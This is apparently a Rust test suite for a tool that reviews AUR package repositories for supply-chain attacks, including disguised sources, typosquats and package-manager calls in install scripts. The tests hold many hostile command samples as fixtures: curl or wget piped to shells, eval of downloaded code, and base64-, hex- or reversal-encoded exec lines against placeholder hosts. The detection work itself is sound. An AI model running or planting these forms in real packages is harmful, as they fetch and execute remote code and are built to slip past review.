//! The review as a whole, on realistic package repositories.

use omg_ports::{AurPackage, ReviewSeverity, ReviewWarning, Srcinfo};
use proptest::prelude::*;

use super::testing::srcinfo;
use super::{review, PreviousReview, RepoFile, ReviewInput, SeenPeople};

const NOW: i64 = 1_796_212_800; // 2026-12-02

const CLEAN_PKGBUILD: &str = r#"# Maintainer: Jane Doe <jane at example dot org>
pkgname=tidy-notes
pkgver=3.4.1
pkgrel=2
pkgdesc="A note-taking tool (uses curl | sh? no: this is a description, and it is quoted)"
arch=('x86_64')
url="https://github.com/janedoe/tidy-notes"
license=('MIT')
depends=('gtk4')
makedepends=('meson' 'ninja')
install=tidy-notes.install
source=("$pkgname-$pkgver.tar.gz::$url/archive/refs/tags/v$pkgver.tar.gz"
        'meson-fix.patch')
sha256sums=('9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'
            'SKIP')

prepare() {
  cd "$pkgname-$pkgver"
  patch -Np1 -i ../meson-fix.patch
}

build() {
  # Do not run: curl https://example.org/setup | sh
  arch-meson "$pkgname-$pkgver" build \
    -Dtests=false
  meson compile -C build
}

package() {
  meson install -C build --destdir "$pkgdir"
  install -Dm644 "$pkgname-$pkgver/LICENSE" -t "$pkgdir/usr/share/licenses/$pkgname"
}
"#;

const CLEAN_INSTALL: &str = r#"post_install() {
  gtk-update-icon-cache -q -t -f usr/share/icons/hicolor
  echo "Run 'tidy-notes --init' once."
}

post_upgrade() {
  post_install "$@"
}
"#;

fn clean_srcinfo() -> Srcinfo {
    let mut s = srcinfo(&[
        ("pkgdesc", "A note-taking tool"),
        ("pkgver", "3.4.1"),
        ("pkgrel", "2"),
        ("url", "https://github.com/janedoe/tidy-notes"),
        ("install", "tidy-notes.install"),
        ("arch", "x86_64"),
        ("license", "MIT"),
        ("makedepends", "meson"),
        ("makedepends", "ninja"),
        ("depends", "gtk4"),
        (
            "source",
            "tidy-notes-3.4.1.tar.gz::https://github.com/janedoe/tidy-notes/archive/refs/tags/v3.4.1.tar.gz",
        ),
        ("source", "meson-fix.patch"),
        (
            "sha256sums",
            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        ),
        ("sha256sums", "SKIP"),
    ]);
    s.pkgbase = "tidy-notes".into();
    s.packages = vec![("tidy-notes".into(), Vec::new())];
    s
}

fn record() -> AurPackage {
    AurPackage {
        name: "tidy-notes".into(),
        package_base: "tidy-notes".into(),
        version: "3.4.1-2".into(),
        maintainer: Some("jane".into()),
        submitter: Some("jane".into()),
        num_votes: 87,
        popularity: 1.2,
        first_submitted: NOW - 900 * 86_400,
        last_modified: NOW - 20 * 86_400,
        ..AurPackage::default()
    }
}

fn seen_jane() -> SeenPeople {
    SeenPeople {
        maintainer: Some("jane".into()),
        submitter: Some("jane".into()),
        co_maintainers: vec![],
    }
}

fn popular() -> Vec<String> {
    [
        "firefox",
        "google-chrome",
        "visual-studio-code-bin",
        "yay",
        "tidy-notes",
    ]
    .into_iter()
    .map(String::from)
    .collect()
}

struct Case {
    files: Vec<(String, String)>,
    srcinfo: Srcinfo,
    previous_files: Option<Vec<(String, String)>>,
    previous_srcinfo: Option<Srcinfo>,
    record: Option<AurPackage>,
    seen: Option<SeenPeople>,
}

impl Case {
    fn clean() -> Self {
        let files = vec![
            ("PKGBUILD".to_owned(), CLEAN_PKGBUILD.to_owned()),
            ("tidy-notes.install".to_owned(), CLEAN_INSTALL.to_owned()),
            (
                "meson-fix.patch".to_owned(),
                "--- a/x\n+++ b/x\n".to_owned(),
            ),
        ];
        Case {
            previous_files: Some(files.clone()),
            files,
            srcinfo: clean_srcinfo(),
            previous_srcinfo: Some(clean_srcinfo()),
            record: Some(record()),
            seen: Some(seen_jane()),
        }
    }

    fn set(&mut self, name: &str, text: &str) {
        match self.files.iter_mut().find(|(n, _)| n == name) {
            Some(f) => f.1 = text.to_owned(),
            None => self.files.push((name.to_owned(), text.to_owned())),
        }
    }

    fn run(&self) -> Vec<ReviewWarning> {
        let files: Vec<RepoFile<'_>> = self
            .files
            .iter()
            .map(|(n, t)| RepoFile { name: n, text: t })
            .collect();
        let previous_files: Vec<RepoFile<'_>> = self
            .previous_files
            .iter()
            .flatten()
            .map(|(n, t)| RepoFile { name: n, text: t })
            .collect();
        let popular = popular();
        let input = ReviewInput {
            package_base: &self.srcinfo.pkgbase,
            files: &files,
            srcinfo: &self.srcinfo,
            previous: self.previous_files.as_ref().map(|_| PreviousReview {
                files: &previous_files,
                srcinfo: self.previous_srcinfo.as_ref(),
            }),
            record: self.record.as_ref(),
            seen: self.seen.as_ref(),
            history: &[],
            maintainer_since: None,
            popular: &popular,
            now: NOW,
            arch: "x86_64",
        };
        review(&input)
    }
}

fn summary(w: &[ReviewWarning]) -> Vec<(ReviewSeverity, &str, Option<&str>, Option<u32>)> {
    w.iter()
        .map(|w| (w.severity, w.code.as_str(), w.file.as_deref(), w.line))
        .collect()
}

fn high(w: &[ReviewWarning]) -> Vec<&ReviewWarning> {
    w.iter()
        .filter(|w| w.severity == ReviewSeverity::High)
        .collect()
}

#[test]
fn a_clean_package_gives_no_warnings() {
    let w = Case::clean().run();
    assert!(w.is_empty(), "{w:#?}");
}

#[test]
fn a_clean_package_on_first_review_gives_no_warnings() {
    let mut c = Case::clean();
    c.previous_files = None;
    c.previous_srcinfo = None;
    c.seen = None;
    let w = c.run();
    assert!(w.is_empty(), "{w:#?}");
}

#[test]
fn the_july_2025_disguised_patch_source() {
    let mut c = Case::clean();
    c.srcinfo.pkgbase = "firefox-patch-bin".into();
    c.srcinfo.packages = vec![("firefox-patch-bin".into(), Vec::new())];
    let fields = &mut c.srcinfo.base;
    let at = fields
        .iter()
        .position(|f| f.value == "meson-fix.patch")
        .unwrap();
    fields[at].value = "patches::git+https://github.com/someone/patches".into();
    let pkgbuild = CLEAN_PKGBUILD.replace(
        "'meson-fix.patch')",
        "'patches::git+https://github.com/someone/patches')",
    );
    c.set("PKGBUILD", &pkgbuild);
    let w = c.run();
    let h = high(&w);
    assert_eq!(h.len(), 1, "{w:#?}");
    assert_eq!(h[0].code, "disguised-source");
    assert_eq!(h[0].file.as_deref(), Some(".SRCINFO"));
    assert_eq!(h[0].line, Some(12));
    assert_eq!(
        h[0].evidence,
        "source = patches::git+https://github.com/someone/patches"
    );
    // The new host is reported too; the name is not a typo of firefox.
    assert!(w.iter().all(|w| w.code != "typosquat"), "{w:#?}");
}

#[test]
fn the_june_2026_adopted_orphan_with_npm_in_post_install() {
    let mut c = Case::clean();
    c.seen = Some(SeenPeople {
        maintainer: None,
        ..seen_jane()
    });
    c.record.as_mut().unwrap().maintainer = Some("newcomer2026".into());
    c.set(
        "tidy-notes.install",
        "post_install() {\n  gtk-update-icon-cache -q -t -f usr/share/icons/hicolor\n  npm install -g tidy-helper-utils >/dev/null 2>&1\n}\n",
    );
    let w = c.run();
    assert_eq!(
        summary(&w),
        [
            (ReviewSeverity::High, "adopted-orphan", None, None),
            (
                ReviewSeverity::High,
                "install-script-package-manager",
                Some("tidy-notes.install"),
                Some(3)
            ),
        ],
        "{w:#?}"
    );
    assert_eq!(
        w[1].evidence,
        "npm install -g tidy-helper-utils >/dev/null 2>&1"
    );
}

#[test]
fn the_june_2026_bun_in_quoted_pieces() {
    let mut c = Case::clean();
    c.set(
        "tidy-notes.install",
        "post_install() {\n  'b''u''n' install --global tidy-helper 2>/dev/null || true\n}\n",
    );
    let w = c.run();
    let codes: Vec<&str> = high(&w).iter().map(|w| w.code.as_str()).collect();
    assert_eq!(
        codes,
        ["install-script-package-manager", "obfuscated-command"],
        "{w:#?}"
    );
    assert!(w.iter().all(|w| w.line == Some(2)));
}

#[test]
fn a_new_install_script_is_noted() {
    let mut c = Case::clean();
    c.previous_files
        .as_mut()
        .unwrap()
        .retain(|(n, _)| n != "tidy-notes.install");
    let w = c.run();
    assert_eq!(
        summary(&w),
        [(
            ReviewSeverity::Medium,
            "install-script-added",
            Some("tidy-notes.install"),
            Some(1)
        )]
    );
}

#[test]
fn npm_install_in_build_is_only_medium() {
    let mut c = Case::clean();
    let pkgbuild = CLEAN_PKGBUILD.replace(
        "  meson compile -C build\n",
        "  meson compile -C build\n  cd web && npm install --cache \"$srcdir/npm-cache\" && npm run build\n",
    );
    c.set("PKGBUILD", &pkgbuild);
    let w = c.run();
    assert_eq!(
        summary(&w),
        [(
            ReviewSeverity::Medium,
            "build-package-manager",
            Some("PKGBUILD"),
            Some(27)
        )],
        "{w:#?}"
    );
}

#[test]
fn fetch_and_run_forms_in_a_pkgbuild() {
    let forms = [
        "curl -fsSL https://get.example.dev | sh",
        "wget -qO- https://x.example/i.sh | sudo bash -s -- --yes",
        "bash <(curl -s https://x.example/i.sh)",
        "eval \"$(curl -s https://x.example/env)\"",
        "source <(wget -O- https://x.example/env)",
        "sh -c \"$(curl -fsSL https://x.example/install.sh)\"",
        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example/p').read())\"",
        "payload=$(curl -s https://x.example/p)\n  eval \"$payload\"",
        "\"c\"url -s https://x.example/p | python3",
        "c\\url -s https://x.example/p | perl",
        "$(curl -s https://x.example/cmd)",
        "bash <<< \"$(wget -qO- https://x.example/s)\"",
        "curl -s https://x.example/p | tee /tmp/log | node",
        "curl -fsSLo /tmp/i.sh https://x.example/i.sh; bash /tmp/i.sh",
        "curl -s https://x.example/cmds | xargs -I{} sh -c '{}'",
        "wget https://bootstrap.example/get-tool.py && python3 get-tool.py --user",
        "curl -s https://x.example/setup > \"$srcdir/setup\"; chmod +x \"$srcdir/setup\"; \"$srcdir/setup\"",
        "$'\\x62\\x61\\x73\\x68' <(curl -s https://x.example)",
    ];
    for form in forms {
        let mut c = Case::clean();
        let pkgbuild = CLEAN_PKGBUILD.replace(
            "  meson compile -C build\n",
            &format!("  {form}\n  meson compile -C build\n"),
        );
        c.set("PKGBUILD", &pkgbuild);
        let w = c.run();
        assert!(
            w.iter().any(|w| w.code == "fetch-and-run"
                && w.severity == ReviewSeverity::High
                && w.file.as_deref() == Some("PKGBUILD")
                && w.line.is_some_and(|l| (26..=27).contains(&l))),
            "{form}: {w:#?}"
        );
    }
}

#[test]
fn encoded_exec_forms() {
    let forms = [
        "echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZSB8IHNo | base64 -d | sh",
        "echo Y3VybA== | base64 --decode | bash",
        "eval \"$(echo ZWNobyBoaQ== | base64 -d)\"",
        "printf '\\x63\\x75\\x72\\x6c' | sh",
        "python -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
        "echo 'hs | lruc' | rev | sh",
    ];
    for form in forms {
        let mut c = Case::clean();
        c.set(
            "tidy-notes.install",
            &format!("post_install() {{\n  {form}\n}}\n"),
        );
        let w = c.run();
        assert!(
            w.iter().any(|w| w.code == "encoded-exec"
                && w.line == Some(2)
                && w.severity == ReviewSeverity::High),
            "{form}: {w:#?}"
        );
    }
}

#[test]
fn continued_lines_report_their_first_line() {
    let mut c = Case::clean();
    let pkgbuild = CLEAN_PKGBUILD.replace(
        "  meson compile -C build\n",
        "  meson compile -C build\n  curl -fsSL \\\n    https://x.example/setup \\\n    | sh\n",
    );
    c.set("PKGBUILD", &pkgbuild);
    let w = c.run();
    assert_eq!(
        summary(&w),
        [(
            ReviewSeverity::High,
            "fetch-and-run",
            Some("PKGBUILD"),
            Some(27)
        )],
        "{w:#?}"
    );
    assert_eq!(
        w[0].evidence,
        "curl -fsSL \\ https://x.example/setup \\ | sh"
    );
}

#[test]
fn comments_are_not_matched() {
    let mut c = Case::clean();
    c.set(
        "tidy-notes.install",
        "post_install() {\n  # npm install -g thing\n  # curl x | sh \\\n  true  # 'b''u''n' install\n}\n",
    );
    let w = c.run();
    assert!(w.is_empty(), "{w:#?}");
    // A comment ending in a backslash does not swallow the next line.
    c.set(
        "tidy-notes.install",
        "post_install() {\n  # harmless \\\n  curl -s https://x.example | sh\n}\n",
    );
    let w = c.run();
    assert!(
        w.iter()
            .any(|w| w.code == "fetch-and-run" && w.line == Some(3)),
        "{w:#?}"
    );
}

#[test]
fn downloads_in_install_scripts_are_high() {
    let mut c = Case::clean();
    c.set(
        "tidy-notes.install",
        "post_install() {\n  wget -q -O /usr/lib/tidy/plugin.so https://x.example/p.so\n}\n",
    );
    let w = c.run();
    assert_eq!(
        summary(&w),
        [(
            ReviewSeverity::High,
            "install-script-download",
            Some("tidy-notes.install"),
            Some(2)
        )]
    );
}

#[test]
fn assembled_command_names_are_obfuscation() {
    let mut c = Case::clean();
    c.set(
        "tidy-notes.install",
        "post_install() {\n  a=cu; b=rl\n  $a$b -s https://x.example/p -o /tmp/p\n}\n",
    );
    let w = c.run();
    assert!(
        w.iter().any(|w| w.code == "obfuscated-command"
            && w.severity == ReviewSeverity::High
            && w.line == Some(3)),
        "{w:#?}"
    );
}

#[test]
fn sources_hosts_checksums_and_srcinfo_disagreement() {
    let mut c = Case::clean();
    // A new host in .SRCINFO and PKGBUILD, without checksum.
    c.srcinfo.base.push(omg_ports::SrcinfoField {
        key: "source".into(),
        value: "https://cdn.example.net/extra.tar.gz".into(),
        line: 15,
    });
    c.srcinfo.base.push(omg_ports::SrcinfoField {
        key: "sha256sums".into(),
        value: "SKIP".into(),
        line: 16,
    });
    let pkgbuild = CLEAN_PKGBUILD
        .replace(
            "        'meson-fix.patch')",
            "        'meson-fix.patch'\n        https://cdn.example.net/extra.tar.gz\n        https://hidden.example/payload.tar.gz)",
        )
        .replace("pkgrel=2", "pkgrel=3")
        .replace("            'SKIP')", "            'SKIP' 'SKIP')");
    c.set("PKGBUILD", &pkgbuild);
    let w = c.run();
    assert_eq!(
        summary(&w),
        [
            (
                ReviewSeverity::High,
                "srcinfo-mismatch",
                Some("PKGBUILD"),
                Some(15)
            ),
            (
                ReviewSeverity::Medium,
                "new-source-host",
                Some(".SRCINFO"),
                Some(15)
            ),
            (
                ReviewSeverity::Medium,
                "source-without-checksum",
                Some(".SRCINFO"),
                Some(15)
            ),
            (
                ReviewSeverity::Medium,
                "srcinfo-mismatch",
                Some("PKGBUILD"),
                Some(4)
            ),
        ],
        "{w:#?}"
    );
}

#[test]
fn typosquatting_and_young_few_votes() {
    let mut c = Case::clean();
    c.srcinfo.pkgbase = "goggle-chrome".into();
    c.srcinfo.packages = vec![("goggle-chrome".into(), Vec::new())];
    let r = c.record.as_mut().unwrap();
    r.name = "goggle-chrome".into();
    r.first_submitted = NOW - 2 * 86_400;
    r.num_votes = 0;
    c.seen = None;
    let w = c.run();
    assert_eq!(
        summary(&w),
        [
            (ReviewSeverity::Medium, "typosquat", None, None),
            (ReviewSeverity::Medium, "young-package", None, None),
            (ReviewSeverity::Low, "few-votes", None, None),
        ],
        "{w:#?}"
    );
    assert_eq!(w[0].evidence, "goggle-chrome ~ google-chrome");
}

#[test]
fn evidence_is_cut() {
    let mut c = Case::clean();
    let long = format!("curl -s https://x.example/{} | sh", "a".repeat(500));
    c.set("extra.sh", &format!("#!/bin/sh\n{long}\n"));
    let w = c.run();
    assert_eq!(w.len(), 1, "{w:#?}");
    assert_eq!(w[0].evidence.chars().count(), super::MAX_EVIDENCE + 1);
}

#[test]
fn the_result_is_deterministic() {
    let mut c = Case::clean();
    c.set(
        "tidy-notes.install",
        "post_install() {\n  curl x | sh; npm i y; 'p''i''p' install z\n}\n",
    );
    let a = c.run();
    let b = c.run();
    assert_eq!(a, b);
    let mut sorted = a.clone();
    sorted.sort_by_key(|w| std::cmp::Reverse(w.severity));
    assert_eq!(a, sorted);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn review_never_panics(
        pkgbuild in "(?s).{0,400}",
        install in "[ -~\\n\\t'\"\\\\$(){}<>|&;#`]{0,300}",
        extra in proptest::collection::vec(any::<char>(), 0..200),
    ) {
        let mut c = Case::clean();
        c.set("PKGBUILD", &pkgbuild);
        c.set("tidy-notes.install", &install);
        c.set("run.sh", &extra.into_iter().collect::<String>());
        let _ = c.run();
    }
}

/// Ordinary PKGBUILD idioms: none of them is a warning of the shell scan.
const IDIOMS: &[&str] = &[
    r#"pkgver() {
  cd "$srcdir/${pkgname%-git}"
  git describe --long --tags --abbrev=7 | sed 's/\([^-]*-g\)/r\1/;s/-/./g'
  printf "r%s.%s" "$(git rev-list --count HEAD)" "$(git rev-parse --short=7 HEAD)"
}"#,
    r#"prepare() {
  cd "$_pkgname"
  sed -i 's|#!/usr/bin/env python|#!/usr/bin/python3|' bin/*.py
  sed -i "s|/usr/local|/usr|g" Makefile
  export RUSTUP_TOOLCHAIN=stable
  cargo fetch --locked --target "$(rustc -vV | sed -n 's/host: //p')"
  go mod download -x
}"#,
    r#"build() {
  cd "$srcdir/$pkgname-$pkgver"
  python -m build --wheel --no-isolation
  CFLAGS+=" -ffat-lto-objects" ./configure --prefix=/usr \
    --sysconfdir=/etc
  make
  GOFLAGS="-buildmode=pie -trimpath" go build -o "$pkgname" .
}"#,
    r#"package() {
  python -m installer --destdir="$pkgdir" dist/*.whl
  bsdtar -xf data.tar.xz -C "$pkgdir"
  install -Dm755 /dev/stdin "$pkgdir/usr/bin/$pkgname" <<EOF
#!/bin/sh
exec /opt/$pkgname/$pkgname "\$@"
EOF
  cat > "$pkgdir/usr/share/doc/README" <<'END'
Don't run curl | sh, it's not needed.
END
  \cp -a bin "$pkgdir/opt/$pkgname/"
  find "$pkgdir" -type f -name '*.la' -delete
  echo "$pkgver" | tr - _ > "$pkgdir/opt/$pkgname/VERSION"
  _py=python3; "${PYTHON:-python3}" -m compileall -q "$pkgdir" && $_py -c 'print(1)'
  ${CC:-cc} -o helper helper.c
  gem install --ignore-dependencies --no-user-install -i "$pkgdir/$_gemdir" "$_gemname-$pkgver.gem"
  pip install --no-index --no-deps --root="$pkgdir" dist/*.whl
}"#,
    r#"post_upgrade() {
  if (( $(vercmp $2 2.0-1) < 0 )); then
    echo ":: The configuration moved to /etc/foo.conf"
  fi
  systemctl daemon-reload >/dev/null 2>&1 || :
  getent group foo >/dev/null || groupadd -r foo
}"#,
];

#[test]
fn ordinary_idioms_are_quiet() {
    let install_script = IDIOMS
        .last()
        .into_iter()
        .map(|t| (t, super::ShellKind::Install));
    let pkgbuild = IDIOMS.iter().map(|t| (t, super::ShellKind::Pkgbuild));
    for (text, kind) in pkgbuild.chain(install_script) {
        let found = super::scripts::scan_tokens(&super::lexer::lex(text), kind);
        assert!(found.is_empty(), "{text}\n{found:#?}");
    }
}

#[test]
fn large_hostile_files_are_bounded() {
    let big = [
        "curl x | sh\n".repeat(90_000),
        "a=1 ".repeat(250_000),
        "$(".repeat(300_000),
        "cat <<A\n$(cat <<B\nx\nB\n)\nA\n".repeat(30_000),
        "'".repeat(1_100_000),
        "x=(".repeat(300_000),
    ];
    for text in &big {
        let mut c = Case::clean();
        c.set("PKGBUILD", text);
        let w = c.run();
        assert!(w.len() <= 1100, "{}", w.len());
    }
}

#[test]
fn an_install_script_named_by_the_pkgbuild_only() {
    let mut c = Case::clean();
    let pkgbuild =
        CLEAN_PKGBUILD.replace("package() {\n", "package() {\n  install=setup-hooks.sh\n");
    c.set("PKGBUILD", &pkgbuild);
    c.set(
        "setup-hooks.sh",
        "post_install() {\n  pip install --user tidy-extras\n}\n",
    );
    let w = c.run();
    assert_eq!(
        summary(&w),
        [
            (
                ReviewSeverity::High,
                "install-script-package-manager",
                Some("setup-hooks.sh"),
                Some(2)
            ),
            (
                ReviewSeverity::Medium,
                "install-script-added",
                Some("setup-hooks.sh"),
                Some(1)
            ),
        ],
        "{w:#?}"
    );
}
